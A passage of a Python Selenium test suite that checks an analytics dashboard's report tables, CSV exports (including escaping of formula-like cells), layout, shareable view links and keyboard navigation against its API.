              status == 401 and shown["overviewError"] == message and shown["overview"]["overview-orders"] is None
              and message in shown["status"], f"{status} {message!r} vs {shown['overviewError']!r} / {shown['status']!r}")
    finally:
        driver.quit()


# ------------------------------------------------------------------------------ every report, the controls

# A table as data: its header rows' texts, and per body and footer row its data attributes
# and every figure cell (testid, data-value, text, and data-currency/-model/-period).
TABLE = """
const table = document.querySelector(`[data-testid="${arguments[0]}"]`);
if (!table) return null;
const cells = tr => [...tr.cells].filter(c => c.dataset.testid).map(c => ({...c.dataset, text: c.textContent}));
const rows = list => [...list].map(tr => ({data: {...tr.dataset}, cells: cells(tr)}));
return {caption: table.caption ? table.caption.textContent : null, head: [...table.tHead.rows].map(r => [...r.cells].map(c => c.textContent)),
        rows: rows(table.tBodies[0].rows), foot: table.tFoot ? rows(table.tFoot.rows) : []};
"""


def table_of(driver, testid):
    return driver.execute_script(TABLE, testid)


def value_in(row, testid, **attrs):
    """The data-value of the row's cell with this testid and data attributes (None when absent)."""
    for c in row["cells"]:
        if c["testid"] == testid and all(c.get(k) == str(v) for k, v in attrs.items()):
            return c["value"]
    return None


def same_value(kind, shown, want):
    """count: the integer's text; number: the same number (rates, credits); money: the amount text ('' without one)."""
    if kind == "number":
        return shown is not None and (shown == "" if want is None else shown != "" and float(shown) == float(want))
    return shown == ("" if want is None else str(want))


def camel(key):
    head, *rest = key.split("_")
    return head + "".join(part.title() for part in rest)


def compare_rows(label, screen_rows, api_rows, keys, fields, currencies, attr_keys=None):
    """Screen rows against API rows, in order: the key attributes (data-<key>) and every field.
    fields: (testid, kind, getter of the API row, extra data attributes); money fields once per currency."""
    attr_keys = attr_keys or keys
    problems = []
    shown_keys = [tuple(r["data"].get(camel(k)) for k in attr_keys) for r in screen_rows]
    api_keys = [tuple(str(a[k]) for k in keys) for a in api_rows]
    if shown_keys != api_keys:
        problems.append(f"{label} rows: screen {shown_keys}, API {api_keys}")
    for screen_row, api_row in zip(screen_rows, api_rows):
        name = "/".join(str(api_row[k]) for k in keys)
        for testid, kind, get, attrs in fields:
            for currency in currencies if kind == "money" else [None]:
                where = dict(attrs, **({"currency": currency} if currency else {}))
                want = get(api_row)
                if kind == "money":
                    want = (money_of(want, currency) or {}).get("amount")
                shown = value_in(screen_row, testid, **where)
                if not same_value(kind, shown, want):
                    problems.append(f"{label} {name} {testid} {where}: screen {shown!r}, API {want!r}")
    return problems


def field(testid, kind, key=None, **attrs):
    key = key or testid
    return (testid, kind, key if callable(key) else (lambda row: row.get(key)), attrs)


def filter_query(dimension, value):
    """filter[<dimension>]=<value> as urlencode writes it (filter%5B…%5D), as the page's own requests do."""
    return urllib.parse.urlencode({f"filter[{dimension}]": value})


def api_get(tributary, path, token=ADMIN_TOKEN):
    status, body = tributary.api("GET", f"/v1/sites/{SITE}/{path}", token=token)
    if status != 200:
        raise RuntimeError(f"GET {path}: {status} {body}")
    return body


def view_of(driver):
    return driver.execute_script("return document.body.dataset.view || ''")


def change_and_wait(driver, action, fragment, timeout=30):
    """Does action (a user's change of a control) and waits until the page shows a view whose
    link has the fragment, i.e. the reload for that control finished."""
    before = view_of(driver)
    action()
    return wait_for(lambda: driver.execute_script(
        "return document.body.dataset.state === 'ready' && document.body.dataset.view.includes(arguments[0])"
        " && document.body.dataset.view !== arguments[1]", fragment, before), timeout, 0.1)


def set_input(driver, testid, value, enter=False):
    # Typed over the selected old value, as a user would (Selenium's clear() fires a change event of its own).
    element = driver.find_element(By.CSS_SELECTOR, f"[data-testid={testid}]")
    element.send_keys(Keys.CONTROL, "a")
    element.send_keys(value + (Keys.ENTER if enter else Keys.TAB))


def select(driver, testid, value):
    Select(driver.find_element(By.CSS_SELECTOR, f"[data-testid={testid}]")).select_by_value(value)


ATTRIBUTION_KEYS = ("source", "medium", "campaign", "channel")
MODELS = ("last_touch", "last_non_direct", "first_touch", "linear", "position_based", "time_decay")


def check_attribution(driver, tributary, name, span, lookback, currencies):
    answers = {m: api_get(tributary, f"attribution?{span}&conversion=purchase&model={m}&lookback_days={lookback}") for m in MODELS}
    # The rows: every key any model credits, in the order the models first name them.
    union = []
    for m in MODELS:
        for row in answers[m]["rows"]:
            key = {k: row[k] for k in ATTRIBUTION_KEYS}
            if key not in union:
                union.append(key)
    by_model = {m: {tuple(r[k] for k in ATTRIBUTION_KEYS): r for r in answers[m]["rows"]} for m in MODELS}
    fields = []
    for m in MODELS:
        get = (lambda m: lambda key: by_model[m].get(tuple(key[k] for k in ATTRIBUTION_KEYS), {}))(m)
        fields.append(field("credit", "number", (lambda g: lambda key: g(key).get("conversions"))(get), model=m))
        fields.append(field("revenue", "money", (lambda g: lambda key: g(key).get("revenue"))(get), model=m))
    table = table_of(driver, "attribution-table")
    problems = compare_rows("attribution", (table or {"rows": []})["rows"], union, ATTRIBUTION_KEYS, fields, currencies)
    totals = (table or {"foot": [{}]})["foot"][0] if table and table["foot"] else {"cells": []}
    for m in MODELS:
        if not same_value("count", value_in(totals, "credit", model=m), answers[m]["conversions"]):
            problems.append(f"{m} total conversions: screen {value_in(totals, 'credit', model=m)!r}, API {answers[m]['conversions']}")
    check(f"{name}: attribution with lookback {lookback}: every model's credit and revenue per row ({len(union)} rows) and its total "
          f"conversions equal GET /attribution for each of the six models", table is not None and union and not problems,
          "; ".join(problems[:8]))


def check_retention(driver, tributary, name, span, period):
    answer = api_get(tributary, f"retention?{span}&event=purchase&period={period}")
    table = table_of(driver, "retention-table")
    problems = []
    cohorts = answer["cohorts"]
    if not table:
        problems.append("no retention table")
    else:
        problems += compare_rows("retention", table["rows"], cohorts, ("cohort",), [field("persons", "count")], [])
        for screen_row, cohort in zip(table["rows"], cohorts):
            shown = {int(c["period"]): c["value"] for c in screen_row["cells"] if c["testid"] == "share"}
            for p in cohort["periods"]:
                if not same_value("number", shown.get(p["period"]), p["share"]):
                    problems.append(f"{cohort['cohort']} {period} {p['period']}: screen {shown.get(p['period'])!r}, API {p['share']}")
            extra = {k for k, v in shown.items() if v != ""} - {p["period"] for p in cohort["periods"]}
            if extra:
                problems.append(f"{cohort['cohort']}: shares shown for periods the API has none: {sorted(extra)}")
        shaded = driver.execute_script("return [...document.querySelectorAll('[data-testid=retention-table] td[data-testid=share]')]"
                                       ".filter(c => c.dataset.value !== '').every(c => c.style.background !== '')")
        if not shaded:
            problems.append("a cell with a share is not coloured")
    check(f"{name}: the retention heat map per {period} has the API's {len(cohorts)} cohorts, persons and every period's share, each cell coloured",
          cohorts and not problems, "; ".join(problems[:8]))


def check_products(driver, tributary, name, span, breakdown, currencies):
    answer = api_get(tributary, f"products?{span}&breakdown={breakdown}")
    table = table_of(driver, "products-table")
    problems = compare_rows("products", (table or {"rows": []})["rows"], answer["rows"], (breakdown,),
                            [field("quantity", "count"), field("orders", "count"), field("revenue", "money")], currencies, attr_keys=("key",))
    check(f"{name}: products by {breakdown}: the API's {len(answer['rows'])} rows with quantity, orders and revenue",
          answer["rows"] and not problems, "; ".join(problems[:8]))


def check_customers_and_carts(driver, tributary, name, span, currencies):
    customers = api_get(tributary, f"customers?{span}")
    tiles = driver.execute_script("return Object.fromEntries([...document.querySelectorAll('#customers .tile b, #carts .tile b')]"
                                  ".map(b => [b.dataset.testid + (b.dataset.currency ? ' ' + b.dataset.currency : ''), b.dataset.value]))")
    problems = [f"{k}: screen {tiles.get('customers-' + k)!r}, API {customers[k]}" for k, kind in
                (("customers", "count"), ("repeat_customers", "count"), ("repeat_purchase_rate", "number"))
                if not same_value(kind, tiles.get("customers-" + k), customers[k])]
    groups = [dict(customers[g], group=g) for g in ("new", "returning")]
    money3 = [field(k, "money") for k in ("revenue", "refunds", "net_revenue")]
    problems += compare_rows("customers", (table_of(driver, "customers-table") or {"rows": []})["rows"], groups, ("group",),
                             [field("customers", "count"), field("orders", "count"), *money3], currencies)
    problems += compare_rows("first-order source", (table_of(driver, "first-source-table") or {"rows": []})["rows"],
                             customers["by_first_order_source"], ("source",),
                             [field("customers", "count"), field("orders", "count"), *money3, field("revenue_per_customer", "money"),
                              field("net_revenue_per_customer", "money")], currencies)
    check(f"{name}: customers: totals, new vs returning and every first-order source row equal GET /customers "
          f"({customers['customers']} customers, {customers['new']['customers']} new)",
          customers["customers"] > 0 and not problems, "; ".join(problems[:8]))

    carts = api_get(tributary, f"carts?{span}&breakdown=source")
    problems = [f"{k}: screen {tiles.get('carts-' + k)!r}, API {carts[k]}" for k, kind in
                (("carts", "count"), ("abandoned", "count"), ("recovered", "count"), ("abandonment_rate", "number"))
                if not same_value(kind, tiles.get("carts-" + k), carts[k])]
    for c in currencies:
        want = (money_of(carts["abandoned_value"], c) or {}).get("amount")
        if not same_value("money", tiles.get(f"carts-abandoned_value {c}"), want):
            problems.append(f"abandoned value {c}: screen {tiles.get(f'carts-abandoned_value {c}')!r}, API {want!r}")
    cart_fields = [*(field(k, "count") for k in ("carts", "converted", "open", "abandoned", "recovered")), field("abandonment_rate", "number"),
                   field("abandoned_value", "money"), field("recovered_value", "money")]
    table = table_of(driver, "carts-table") or {"rows": [], "foot": []}
    problems += compare_rows("carts", table["rows"], carts["rows"], ("source",), cart_fields, currencies)
    problems += compare_rows("carts totals", [dict(r, data={}) for r in table["foot"]], [carts], (), cart_fields, currencies)
    check(f"{name}: carts: totals and every source row equal GET /carts ({carts['carts']} carts, {carts['abandoned']} abandoned)",
          carts["carts"] > 0 and not problems, "; ".join(problems[:8]))


def minor(amount):
    """An amount's decimal text as (minor units, digits)."""
    whole, _, frac = amount.partition(".")
    return int(whole + frac), len(frac)


def money_change(now, before, currency):
    """now − before of one currency as the API's decimal text ('' when neither has it)."""
    a, b = money_of(now, currency), money_of(before, currency)
    if not a and not b:
        return ""
    digits = minor((a or b)["amount"])[1]
    diff = (minor(a["amount"])[0] if a else 0) - (minor(b["amount"])[0] if b else 0)
    text = str(abs(diff)).rjust(digits + 1, "0")
    return ("-" if diff < 0 else "") + (text[:-digits] + "." + text[-digits:] if digits else text)


def check_comparison(driver, tributary, name, first, last, breakdown, currencies):
    days = (datetime.date.fromisoformat(last) - datetime.date.fromisoformat(first)).days + 1
    before_last = datetime.date.fromisoformat(first) - datetime.timedelta(days=1)
    before = (before_last - datetime.timedelta(days=days - 1)).isoformat(), before_last.isoformat()
    span, previous = f"from={first}&to={last}", f"from={before[0]}&to={before[1]}"
    now, then = api_get(tributary, f"overview?{span}"), api_get(tributary, f"overview?{previous}")
    if not check(f"{name}: the API has orders in both {first}..{last} and {before[0]}..{before[1]}", now["orders"] and then["orders"]):
        return
    shown = driver.execute_script("return Object.fromEntries([...document.querySelectorAll('#overview [data-testid]')]"
                                  ".map(e => [e.dataset.testid + (e.dataset.currency ? ' ' + e.dataset.currency : ''), e.dataset.value]))")
    problems = []
    for key in ("visitors", "sessions", "pageviews", "orders"):
        for suffix, want in (("-previous", str(then[key])), ("-change", str(now[key] - then[key]))):
            if shown.get(f"overview-{key}{suffix}") != want:
                problems.append(f"{key}{suffix}: screen {shown.get(f'overview-{key}{suffix}')!r}, want {want!r}")
    if not same_value("number", shown.get("overview-conversion_rate-previous"), then["conversion_rate"]):
        problems.append(f"conversion rate before: {shown.get('overview-conversion_rate-previous')!r} vs {then['conversion_rate']}")
    for key in MONEY_KEYS:
        for c in currencies:
            for suffix, want in (("-previous", (money_of(then[key], c) or {}).get("amount", "")), ("-change", money_change(now[key], then[key], c))):
                if shown.get(f"overview-{key}{suffix} {c}") != want:
                    problems.append(f"{key}{suffix} {c}: screen {shown.get(f'overview-{key}{suffix} {c}')!r}, want {want!r}")
    check(f"{name}: with the comparison on, every overview tile shows {before[0]}..{before[1]} (GET /overview) and the exact change",
          not problems, "; ".join(problems[:8]))

    revenue_now = api_get(tributary, f"revenue?{span}&breakdown={breakdown}")["totals"]
    revenue_then = api_get(tributary, f"revenue?{previous}&breakdown={breakdown}")["totals"]
    table = table_of(driver, "sources-table") or {"foot": []}
    foot = {r["data"].get("testid"): r for r in table["foot"]}
    problems = []
    for key in ("orders", "first_orders"):
        for row, want in (("source-totals-previous", revenue_then[key]), ("source-totals-change", revenue_now[key] - revenue_then[key])):
            if value_in(foot.get(row, {"cells": []}), key) != str(want):
                problems.append(f"{row} {key}: screen {value_in(foot.get(row, {'cells': []}), key)!r}, want {want}")
    for key in MONEY_KEYS:
        for c in currencies:
            for row, want in (("source-totals-previous", (money_of(revenue_then[key], c) or {}).get("amount", "")),
                              ("source-totals-change", money_change(revenue_now[key], revenue_then[key], c))):
                if value_in(foot.get(row, {"cells": []}), key, currency=c) != want:
                    problems.append(f"{row} {key} {c}: screen {value_in(foot.get(row, {'cells': []}), key, currency=c)!r}, want {want!r}")
    check(f"{name}: the revenue table's totals show the previous period's totals (GET /revenue) and the exact change",
          not problems and "source-totals-previous" in foot, "; ".join(problems[:8]))


def check_revenue_rows(driver, tributary, name, query, dims, currencies):
    answer = api_get(tributary, f"revenue?{query}")
    table = table_of(driver, "sources-table") or {"rows": [], "foot": []}
    fields = [field("orders", "count"), field("first_orders", "count"), *(field(k, "money") for k in MONEY_KEYS)]
    problems = compare_rows("revenue", table["rows"], answer["rows"], dims, fields, currencies)
    problems += compare_rows("revenue totals", [r for r in table["foot"] if r["data"].get("testid") == "source-totals"],
                             [answer["totals"]], (), fields, currencies)
    check(f"{name}: the revenue table equals GET /revenue?{query} ({len(answer['rows'])} rows and totals)",
          answer["rows"] and not problems, "; ".join(problems[:8]))
    return answer


def downloaded_csv(driver, directory, button):
    """Clicks a table's CSV button and returns the file Chromium saved (name, bytes)."""
    for name in os.listdir(directory):
        os.remove(os.path.join(directory, name))
    driver.find_element(By.CSS_SELECTOR, f"[data-testid={button}]").click()
    def saved():
        # Chromium writes <name>.crdownload and renames it when complete.
        names = [n for n in os.listdir(directory) if n.endswith(".csv")]
        return names[0] if len(names) == 1 and os.path.getsize(os.path.join(directory, names[0])) > 0 else None
    name = wait_for(saved, 15)
    if not name:
        return None, b""
    with open(os.path.join(directory, name), "rb") as f:
        return name, f.read()


# What a table's CSV must hold: its last header row, then every body and footer row, each
# cell's data-value (its text without one), a cell spanning n columns followed by n - 1 empty
# fields, action cells left out.
TABLE_CELLS = """
const table = document.querySelector(`[data-testid="${arguments[0]}"]`);
const line = tr => [...tr.cells].filter(c => !c.classList.contains('act'))
  .flatMap(c => [c.hasAttribute('data-value') ? c.getAttribute('data-value') : c.textContent, ...Array(c.colSpan - 1).fill('')]);
return [table.tHead.rows[table.tHead.rows.length - 1], ...table.tBodies[0].rows, ...(table.tFoot ? table.tFoot.rows : [])].map(line);
"""


def spreadsheet_safe(value):
    """A cell as the CSV must hold it: text a spreadsheet would run as a formula gets a leading
    apostrophe (OWASP's advice); numbers, negative ones too, stay as they are."""
    if re.match(r"[=+\-@\t\r]", value) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", value):
        return "'" + value
    return value


def check_csv(driver, directory, name, testid):
    file_name, data = downloaded_csv(driver, directory, "csv-" + testid)
    want = [[spreadsheet_safe(cell) for cell in row] for row in driver.execute_script(TABLE_CELLS, testid)]
    text = data.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    check(f"{name}: the {testid} CSV download ({file_name}) holds exactly the table's {len(want) - 1} rows with their raw data-values, CRLF lines",
          data and rows == want and text.endswith("\r\n") and text.count("\r\n") == text.count("\n"),
          f"file {rows[:3]}…, table {want[:3]}…")
    return rows


PANELS = ("overview", "days", "sources", "attribution", "customers", "carts", "products", "retention", "reconciliation", "goals", "funnel")


def check_layout(driver, workdir, name, width):
    driver.set_window_size(width, 1800)
    wait_for(lambda: driver.execute_script("return window.innerWidth") <= width, 5)
    state = driver.execute_script("""
      const panels = Object.fromEntries(arguments[0].map(p => { const e = document.getElementById('panel-' + p);
        const r = e && e.getBoundingClientRect(); return [p, !!e && r.width > 0 && r.height > 0 && getComputedStyle(e).visibility !== 'hidden'
          && r.left >= 0 && r.right <= window.innerWidth + 0.5]; }));
      // What sticks out (outside the tables' own scrolling boxes), to say why when the page scrolls sideways.
      const wide = [...document.querySelectorAll('body *')].filter(e => !(e.parentElement && e.parentElement.closest('.scroll')) && e.getBoundingClientRect().right > window.innerWidth + 0.5)
        .slice(0, 5).map(e => `${e.tagName.toLowerCase()}#${e.id}.${e.className} ${Math.round(e.getBoundingClientRect().right)}px`);
      return {panels, wide, inner: window.innerWidth, scroll: document.documentElement.scrollWidth};""", list(PANELS))
    path = os.path.join(workdir, "screenshots", f"dashboard-{width}.png")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    # The whole page: the window as tall as the document.
    driver.set_window_size(width, min(20000, driver.execute_script("return document.documentElement.scrollHeight") + 200))
    saved = driver.save_screenshot(path)
    with open(path, "rb") as f:
        header = f.read(24)
    png_width = int.from_bytes(header[16:20], "big") if header[:8] == b"\x89PNG\r\n\x1a\n" else 0
    hidden = [p for p, ok in state["panels"].items() if not ok]
    check(f"{name}: at {width} px every panel ({len(PANELS)}) is present, visible and within the window",
          not hidden, f"not visible or overflowing: {hidden}")
    check(f"{name}: at {width} px the page does not scroll sideways (scrollWidth {state['scroll']} <= innerWidth {state['inner']})",
          state["scroll"] <= state["inner"] and state["inner"] <= width, f"wider than the window: {state['wide']}")
    check(f"{name}: a {width} px screenshot is saved ({path})", saved and png_width == state["inner"], f"PNG width {png_width}")
    if os.environ.get("DASHBOARD_SCREENSHOTS"):
        shutil.copy(path, os.environ["DASHBOARD_SCREENSHOTS"])
    driver.set_window_size(1400, 1800)


def test_reports(tributary, expected, workdir):
    first, last = expected["from"], expected["to"]
    span = f"from={first}&to={last}"
    downloads = os.path.join(workdir, "downloads")
    os.makedirs(downloads, exist_ok=True)
    driver = browser(workdir, "reports")
    driver.get(tributary.query + "/")
    try:
        driver.execute_cdp_cmd("Page.setDownloadBehavior", {"behavior": "allow", "downloadPath": downloads})
        driver.find_element(By.CSS_SELECTOR, "[data-testid=token]").send_keys(ADMIN_TOKEN + Keys.ENTER)
        picker = driver.find_element(By.CSS_SELECTOR, "[data-testid=site-select]")
        wait_for(lambda: SITE in [o.get_attribute("value") for o in Select(picker).options], 15)
        Select(picker).select_by_value(SITE)
        set_range(driver, first, last)
        if not check("reports: the simulation's range loads", loaded(driver, SITE, first, last)):
            return
        codes = [c for c in screen(driver)["currencies"] if c != "all"]
        currency = screen(driver)["currency"]

        check_attribution(driver, tributary, f"reports, {currency}", span, 30, [currency])
        check_retention(driver, tributary, "reports", span, "week")
        check_products(driver, tributary, f"reports, {currency}", span, "product_id", [currency])
        check_customers_and_carts(driver, tributary, f"reports, {currency}", span, [currency])

        # Every currency side by side: one money column (and tile) per currency.
        check("reports: choosing 'all' currencies shows them side by side",
              change_and_wait(driver, lambda: select(driver, "currency", "all"), "currency=all"))
        heads = (table_of(driver, "sources-table") or {"head": [[]]})["head"][-1]
        check("reports: the revenue table has one revenue column per currency", [h for h in heads if h.startswith("Revenue ")]
              == [f"Revenue {c}" for c in codes], str(heads))
        check_revenue_rows(driver, tributary, "reports, all currencies", f"{span}&breakdown=source,medium,campaign",
                           ("source", "medium", "campaign"), codes)
        check_attribution(driver, tributary, "reports, all currencies", span, 30, codes)
        check_customers_and_carts(driver, tributary, "reports, all currencies", span, codes)

        check("reports: the attribution lookback set to 7 days reloads it",
              change_and_wait(driver, lambda: set_input(driver, "lookback", "7"), "lookback=7"))
        check_attribution(driver, tributary, "reports, all currencies", span, 7, codes)
        check("reports: retention per month", change_and_wait(driver, lambda: select(driver, "period", "month"), "period=month"))
        check_retention(driver, tributary, "reports", span, "month")
        check("reports: products by category", change_and_wait(driver, lambda: select(driver, "product-breakdown", "category"), "products=category"))
        check_products(driver, tributary, "reports, all currencies", span, "category", codes)

        check("reports: breakdown by channel", change_and_wait(driver, lambda: select(driver, "breakdown", "channel"), "breakdown=channel"))
        check_revenue_rows(driver, tributary, "reports, by channel", f"{span}&breakdown=channel", ("channel",), codes)
        check("reports: the comparison with the previous period turned on",
              change_and_wait(driver, lambda: driver.find_element(By.CSS_SELECTOR, "[data-testid=compare]").click(), "compare=1"))
        # The simulation's second half against its first: both periods have orders.
        half = (datetime.date.fromisoformat(last) - datetime.date.fromisoformat(first)).days // 2 + 1
        middle = (datetime.date.fromisoformat(first) + datetime.timedelta(days=half)).isoformat()
        set_range(driver, middle, last)
        if check(f"reports: {middle}..{last} loads", loaded(driver, SITE, middle, last)):
            check_comparison(driver, tributary, "reports", middle, last, "channel", codes)
        set_range(driver, first, last)
        loaded(driver, SITE, first, last)

        sources = api_get(tributary, f"revenue?{span}&breakdown=source")["rows"]
        source = max(sources, key=lambda r: r["orders"])["source"]
        check(f"reports: a filter on source = {source}",
              change_and_wait(driver, lambda: set_input(driver, "filter-source", source, enter=True), "filter.source="))
        filtered = check_revenue_rows(driver, tributary, f"reports, source {source} by channel",
                                      f"{span}&breakdown=channel&{filter_query('source', source)}", ("channel",), codes)
        overview = api_get(tributary, f"overview?{span}&{filter_query('source', source)}")
        shown = screen(driver)["overview"]
        check(f"reports: with the filter the overview shows GET /overview?filter[source]={source}, fewer orders than unfiltered",
              same_count(shown["overview-orders"], overview["orders"]) and same_count(shown["overview-visitors"], overview["visitors"])
              and overview["orders"] == filtered["totals"]["orders"] < sum(r["orders"] for r in sources),
              f"{shown['overview-orders']} vs {overview['orders']}")
        check("reports: reports the API cannot filter by source say so",
              driver.execute_script("return ['attribution', 'products', 'retention', 'customers', 'funnel-chart']"
                                    ".every(id => document.querySelector(`#${id} [data-testid=unfiltered]`)) &&"
                                    " !document.querySelector('#carts [data-testid=unfiltered]')"))

        for testid in ("sources-table", "attribution-table", "retention-table", "products-table", "reconciliation-table", "goals-table"):
            rows = check_csv(driver, downloads, "reports", testid)
        cells = [cell for row in rows for cell in row]
        check("reports: the goals CSV holds the formula-like goal name with a leading apostrophe, never as a formula",
              "'" + FORMULA_GOAL in cells and FORMULA_GOAL not in cells, str(cells[:12]))

        check_layout(driver, workdir, "reports", 1400)
        check_layout(driver, workdir, "reports", 390)

        errors = [e["message"] for e in driver.get_log("browser")
                  if e["level"] == "SEVERE" and "Failed to load resource" not in e["message"]]
        check("reports: no script error in the console", not errors, str(errors[:5]))
        check_shared_link(tributary, workdir, driver)
    finally:
        driver.quit()


VIEW_STATE = """
const value = id => document.getElementById(id).value;
return {site: value('site-select'), from: value('from'), to: value('to'), currency: value('currency'), breakdown: value('breakdown'),
        compare: document.getElementById('compare').checked, filter: value('filter-source'), lookback: value('lookback'),
        period: value('period'), products: value('product-breakdown'), funnel: value('funnel'),
        preset: [...document.querySelectorAll('#presets [aria-pressed=true]')].map(b => b.dataset.preset)};
"""


def check_shared_link(tributary, workdir, original):
    """The link of original's view, opened in a fresh browser, restores it once the token is typed again."""
    funnels = tributary.api("GET", f"/v1/sites/{SITE}/funnels")[1]["funnels"]
    if len(funnels) > 1:
        change_and_wait(original, lambda: select(original, "funnel-select", str(funnels[-1]["id"])), f"funnel={funnels[-1]['id']}")
    url, state = original.current_url, original.execute_script(VIEW_STATE)
    tables = {t: table_of(original, t) for t in ("sources-table", "attribution-table", "retention-table", "products-table")}
    overview = screen(original)["overview"]
    check("the view's link keeps its state in the URL, never the token", "#" in url and ADMIN_TOKEN not in url
          and all(f in url for f in ("compare=1", "breakdown=channel", "lookback=7", "period=month", "products=category", "currency=all")), url)
    driver = browser(workdir, "shared")
    try:
        driver.get(url)
        token = driver.find_element(By.CSS_SELECTOR, "[data-testid=token]")
        check("a fresh browser opening the link asks for the token", token.get_attribute("value") == "")
        # Keyboard only: type the token, Tab to the load button, press Enter.
        token.send_keys(ADMIN_TOKEN)
        tabs = 0
        while driver.execute_script("return document.activeElement.dataset.testid") != "load" and tabs < 10:
            ActionChains(driver).send_keys(Keys.TAB).perform()
            tabs += 1
        focused = driver.execute_script("const e = document.activeElement; return e.dataset.testid === 'load' && getComputedStyle(e).outlineStyle !== 'none'")
        check(f"keyboard: Tab reaches the load button ({tabs} presses) and shows its focus", focused)
        ActionChains(driver).send_keys(Keys.ENTER).perform()
        restored = loaded(driver, SITE, state["from"], state["to"])
        same = driver.execute_script(VIEW_STATE)
        check("keyboard: Enter on the load button loads; the link restores the site, range, currency, breakdown, filter, comparison, "
              "lookback, retention period, product breakdown and funnel", restored and same == state, f"{same} vs {state}")
        differing = [t for t in tables if table_of(driver, t) != tables[t]]
        check("the restored view shows the same revenue, attribution, retention and products tables and overview",
              not differing and screen(driver)["overview"] == overview, f"differing: {differing}")

        # A preset with Tab and Enter: from the load button onwards to "Last 7 days".
        tabs = 0
        while driver.execute_script("return document.activeElement.dataset.preset || ''") != "last7" and tabs < 10:
            ActionChains(driver).send_keys(Keys.TAB).perform()
            tabs += 1
        ActionChains(driver).send_keys(Keys.ENTER).perform()
        # Presets are days in the site's time zone (GET /v1/sites/{site}), as the reports' are.
        _, settings = tributary.api("GET", f"/v1/sites/{SITE}")
        today = datetime.datetime.now(zoneinfo.ZoneInfo(settings["timezone"])).date()
        week = ((today - datetime.timedelta(days=6)).isoformat(), today.isoformat())
        check(f"keyboard: Tab reaches the 'Last 7 days' preset ({tabs} presses) and Enter loads {week[0]}..{week[1]}",
              loaded(driver, SITE, *week) and driver.execute_script(
                  "return document.querySelector('[data-preset=last7]').getAttribute('aria-pressed')") == "true"
              and "preset=last7" in driver.current_url)
        overview = api_get(tributary, f"overview?from={week[0]}&to={week[1]}&{filter_query('source', state['filter'])}")
        check("keyboard: the preset's overview equals the API's for that range (filter kept)",
              same_count(screen(driver)["overview"]["overview-orders"], overview["orders"]), str(overview["orders"]))
    finally:
        driver.quit()


# ------------------------------------------------------------------------------ goals and funnels through the forms

def definitions_page(tributary, workdir, name, key, first, last):
    """A browser with a site's key typed and the site's id entered, showing first..last."""
    driver = browser(workdir, name)
    driver.get(tributary.query + "/")
    driver.find_element(By.CSS_SELECTOR, "[data-testid=token]").send_keys(key + Keys.ENTER)
    field = driver.find_element(By.CSS_SELECTOR, "[data-testid=site-input]")
    wait_for(lambda: field.is_displayed(), 10)
    field.send_keys(SITE)
    set_range(driver, first, last)
    return driver, loaded(driver, SITE, first, last)


def submit_and_wait(driver, form, message_testid):
    """Submits a definition form; waits for its message and the reload after it."""
    driver.execute_script("document.querySelector(`[data-testid=${arguments[0]}]`).textContent = ''", message_testid)
    before = driver.execute_script("return document.body.dataset.view")
    driver.find_element(By.CSS_SELECTOR, f"[data-testid={form}] button[type=submit]").click()
    wait_for(lambda: driver.execute_script("return document.querySelector(`[data-testid=${arguments[0]}]`).textContent", message_testid), 15)
    wait_for(lambda: driver.execute_script("return document.body.dataset.state") == "ready", 30)
    return driver.find_element(By.CSS_SELECTOR, f"[data-testid={message_testid}]").text, before


def goal_on_screen(driver, goal_id):
    return next((g for g in screen(driver)["goals"] if g["id"] == str(goal_id)), None)


def fill_goal(driver, name, kind, value, properties="", revenue=True):
    set_input(driver, "goal-name", name)
    select(driver, "goal-kind", kind)
    set_input(driver, "goal-value", value)
    driver.find_element(By.CSS_SELECTOR, "[data-testid=goal-properties]").clear()
    if properties:
        driver.find_element(By.CSS_SELECTOR, "[data-testid=goal-properties]").send_keys(properties)
    box = driver.find_element(By.CSS_SELECTOR, "[data-testid=goal-revenue]")
    if box.is_selected() != revenue:
        box.click()


def check_goal_report(driver, tributary, name, goal_id, span, currency):
    report = api_get(tributary, f"goals/{goal_id}/report?{span}")
    shown = goal_on_screen(driver, goal_id)
    ok = shown is not None and all(same_count(shown[k], report[k]) for k in ("visitors", "converters", "conversions")) \
        and same_rate(shown["conversion_rate"], report["conversion_rate"]) and same_money(shown["revenue"], report["revenue"], currency)
    check(f"{name}: its row equals GET /goals/{goal_id}/report ({report['conversions']} conversions)", ok and report["conversions"] > 0,
          f"{shown} vs {report}")
    return report


def test_definitions(tributary, expected, workdir):
    first, last = expected["from"], expected["to"]
    span = f"from={first}&to={last}"
    goals_api = lambda: tributary.api("GET", f"/v1/sites/{SITE}/goals")[1]["goals"]
    funnels_api = lambda: tributary.api("GET", f"/v1/sites/{SITE}/funnels")[1]["funnels"]
    driver, ok = definitions_page(tributary, workdir, "owner", KEYS["owner_key"], first, last)
    try:
        if not check("with the owner key the site's reports load", ok):
            return
        currency = screen(driver)["currency"]

        # A goal by action, without revenue.
        before = {g["id"] for g in goals_api()}
        fill_goal(driver, f"Carts {RUN}", "action", "add_to_cart", revenue=False)
        text, _ = submit_and_wait(driver, "goal-form", "goal-message")
        created = [g for g in goals_api() if g["id"] not in before]
        check("owner: the goal form creates the goal it describes", len(created) == 1 and created[0]["name"] == f"Carts {RUN}"
              and created[0]["match"] == {"action": "add_to_cart"} and created[0]["revenue"] is False and "saved" in text, f"{created} {text!r}")
        if created:
            check_goal_report(driver, tributary, "owner: the new add_to_cart goal", created[0]["id"], span, currency)

        # A page-path goal with a wildcard and a property filter, then edited and deleted.
        before = {g["id"] for g in goals_api()}
        fill_goal(driver, f"Product pages {RUN}", "path", "/products/*", properties="")
        submit_and_wait(driver, "goal-form", "goal-message")
        created = [g for g in goals_api() if g["id"] not in before]
        check("owner: a page-path goal with a wildcard is created as a pageview match",
              len(created) == 1 and created[0]["match"] == {"type": "pageview", "path": "/products/*"}, str(created))
        if created:
            old = created[0]
            check_goal_report(driver, tributary, "owner: the /products/* goal", old["id"], span, currency)
            driver.find_element(By.CSS_SELECTOR, f"[data-testid=goal-row][data-goal='{old['id']}'] [data-testid=goal-edit]").click()
            prefilled = driver.execute_script("return ['goal-name', 'goal-kind', 'goal-value'].map(id => document.querySelector(`[data-testid=${id}]`).value)")
            check("owner: Edit prefills the goal form with the definition", prefilled == [old["name"], "path", "/products/*"], str(prefilled))
            set_input(driver, "goal-name", f"Product pages (edited) {RUN}")
            driver.find_element(By.CSS_SELECTOR, "[data-testid=goal-properties]").send_keys("plan=pro")
